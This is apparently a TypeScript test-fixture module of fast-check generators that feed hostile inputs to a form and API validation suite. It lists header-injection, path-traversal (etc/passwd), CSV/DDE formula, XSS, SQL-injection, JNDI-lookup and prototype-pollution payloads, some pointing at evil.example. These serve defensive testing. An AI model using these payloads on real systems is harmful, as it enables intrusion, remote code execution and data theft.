import fc from 'fast-check';

/**
 * Hostile inputs for the property suites (test/properties): the OWASP families a public form and
 * a staff API meet, as fast-check arbitraries. Each names what it attacks.
 */

/** Code points that break text handling: lone surrogates, line and paragraph separators, bidi controls, NUL, BOM, non-characters. */
export const unicodeEdges = [
  '\ud800',
  '\udfff',
  'a\ud83dz',
  '\u2028',
  '\u2029',
  '\u202e',
  '\u202a',
  '\u2066',
  '\u2069',
  '\u200e',
  '\u200f',
  '\u061c',
  '\u0000',
  '\u0007',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\ufeff',
  '\uffff',
  '\ufffe',
  '\u00a0',
  '\u200b',
  '\u3000',
] as const;

/** Text a person may well type: combining marks, emoji sequences, other scripts. Valid in names. */
export const unicodeBenign = ['e\u0301', 'Zo\u0308e\u0301\u0301\u0301', '👮🏽‍♀️', '🇸🇳', 'Ñandú', 'Диалло', 'ديالو', '迪亚洛', 'ﬁ', 'Å'] as const;

/** Line breaks, and the header and log forgeries they carry. */
export const lineBreaks = ['\r\n', '\n', '\r', 'x\r\nSet-Cookie: a=b', 'x\nLocation: https://evil.example', '\r\n\r\n<script>'] as const;

/** Path traversal as a path segment or file name: raw, percent-encoded, double-encoded, overlong UTF-8, backslashes. */
export const traversals = [
  '..',
  '.',
  '../',
  '..%2f',
  '%2e%2e',
  '%2e%2e%2f',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '%252e%252e%252f',
  '..%5c..%5c',
  '..\\..\\windows',
  '....//',
  '%c0%ae%c0%ae%c0%af',
  '%2F',
  'a%2Fb',
  '%00',
  'x%00.pdf',
  '%',
  '%zz',
  '%e2%80%ae',
] as const;

/** Keys that reach Object.prototype when an object is merged carelessly. */
export const prototypeKeys = ['__proto__', 'constructor', 'prototype'] as const;

/** A spreadsheet runs a cell that starts with one of these (OWASP "CSV injection"). */
/**
 * Country codes as a form or a client might send them: member countries, codes of countries that
 * are not members, lower case, unknown and malformed codes.
 */
export const countryCodes = fc.constantFrom('SN', 'FR', 'BR', 'sn', 'XX', 'KP', 'TW', 'S N', 'ZZ', '', 'FRA');

export const formulaStarts = ['=', '+', '-', '@', '\t', '\r'] as const;

export const formulaCell = fc
  .tuple(
    fc.constantFrom(...formulaStarts),
    fc.constantFrom('HYPERLINK("http://evil.example","Click")', "cmd|' /C calc'!A0", 'SUM(A1:A9)', '1+1', 'IMPORTXML(A1,"//x")', ''),
  )
  .map(([start, rest]) => `${start}${rest}`);

/** Large strings, built once per size: cheap to draw thousands of times. */
const hugeOf = (size: number, unit: string) => unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
export const hugeStrings = [hugeOf(201, 'a'), hugeOf(2_001, 'é'), hugeOf(10_000, 'x'), hugeOf(70_000, 'A'), hugeOf(300_000, 'z')] as const;

/** At most this long: what fits in a URL (API Gateway takes about 10 KB of request line and headers). */
export const inUrl = (text: string): boolean => text.length <= 2_000;

/** A string drawn from every family above, alone or inside ordinary text. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.string({ unit: 'grapheme', maxLength: 30 }),
  fc.constantFrom(...unicodeEdges, ...lineBreaks, ...traversals, ...prototypeKeys, ...unicodeBenign),
  formulaCell,
  fc.constantFrom(...hugeStrings),
  fc.constantFrom('', ' ', '   \t ', 'null', 'undefined', 'NaN', '<script>alert(1)</script>', "' OR '1'='1", '${jndi:ldap://x}', '{{7*7}}'),
  fc
    .tuple(fc.constantFrom('Amina', 'Police nationale', 'x'), fc.constantFrom(...unicodeEdges, ...lineBreaks, ...formulaStarts), fc.constantFrom('', 'Diallo', 'b'))
    .map(([before, edge, after]) => `${before}${edge}${after}`),
);

/** A JSON value of any shape, as a body or a field: hostile strings and prototype keys included. */
export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 2, arbitrary: hostileString },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, 0, -1, 1.5, 1e308, -0, Number.MAX_SAFE_INTEGER + 2, [], {}, [null], { __proto__: null }) },
  { weight: 1, arbitrary: fc.dictionary(fc.constantFrom(...prototypeKeys, 'a', 'polluted'), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }) },
);

/** JSON nested `depth` deep, as text (an object or an array), to crash recursive parsers and validators. */
export const deepJsonText = (depth: number, kind: 'array' | 'object'): string =>
  kind === 'array' ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

/** Built once: a 30,000-deep text is 60 KB, too much to build again for every case. */
const deepTexts = [64, 1_000, 10_000, 30_000].flatMap((depth) => [deepJsonText(depth, 'array'), deepJsonText(depth, 'object')]);
export const deepJson = fc.constantFrom(...deepTexts);

/** Bodies that are not JSON at all, or broken JSON. */
export const malformedJsonText = fc.oneof(
  fc.constantFrom('', '{', '{"a":}', "{'a':1}", '{"a":1,}', 'NaN', '\u0000', '\ufeff{}', '{"a":"\\ud800"', 'undefined', '<xml/>', '[1,2', '{"a":1}{"b":2}'),
  fc.string({ unit: 'binary', maxLength: 40 }).filter((text) => {
    try {
      JSON.parse(text);
      return false;
    } catch {
      return true;
    }
  }),
);

/** Content types a JSON route must refuse with a 415. */
export const nonJsonContentTypes = [
  'text/plain',
  'text/html',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/jsonp',
  'application/json-seq',
  'application/octet-stream',
  'image/png',
  'json',
  '',
] as const;

/**
 * An object as JSON text with one key added after the others: the only way to send `__proto__` as
 * an own key (JSON.stringify drops it), and a second copy of a key the object already has.
 */
export const withExtraKey = (object: Record<string, unknown>, key: string, value: unknown): string => {
  const base = JSON.stringify(object);
  const extra = `${JSON.stringify(key)}:${JSON.stringify(value) ?? 'null'}`;
  return base === '{}' ? `{${extra}}` : `${base.slice(0, -1)},${extra}}`;
};

/** A field name nobody defined: prototype keys, near-misses of real ones, hostile strings. */
export const unknownKey = (known: readonly string[]): fc.Arbitrary<string> =>
  fc
    .oneof(
      fc.constantFrom(...prototypeKeys),
      fc.constantFrom(...known, 'x').map((name) => `${name} `),
      fc.constantFrom(...known, 'x').map((name) => name.toUpperCase()),
      fc.constantFrom('id', 'status', 'version', 'admin', 'isAdmin', 'role', 'groups', 'pk', 'sk', 'statusTokenHash', 'submittedAt'),
      fc.string({ minLength: 1, maxLength: 12 }),
    )
    .filter((key) => !known.includes(key));

/**
 * A valid object spoiled one way: a required field dropped, a field set to a hostile value, or an
 * unknown field added. Answers the JSON text and what was done, for the failure message.
 */
export const spoiled = (
  valid: Record<string, unknown>,
  fieldValues: Partial<Record<string, fc.Arbitrary<unknown>>> = {},
): fc.Arbitrary<{ text: string; how: string }> => {
  const keys = Object.keys(valid);
  const own = (key: string) => fieldValues[key];
  const hostileFor = (key: string) => {
    const values = own(key);
    return values ? fc.oneof({ weight: 1, arbitrary: values }, { weight: 3, arbitrary: hostileJson }) : hostileJson;
  };
  return fc.oneof(
    fc.constantFrom(...keys).map((key) => {
      const { [key]: _dropped, ...rest } = valid;
      return { text: JSON.stringify(rest), how: `without ${key}` };
    }),
    fc
      .constantFrom(...keys)
      .chain((key) => hostileFor(key).map((value) => ({ key, value })))
      .map(({ key, value }) => ({ text: JSON.stringify({ ...valid, [key]: value }), how: `${key} = ${JSON.stringify(value)?.slice(0, 80)}` })),
    fc.tuple(unknownKey(keys), hostileJson).map(([key, value]) => ({ text: withExtraKey(valid, key, value), how: `unknown field ${JSON.stringify(key)}` })),
  );
};
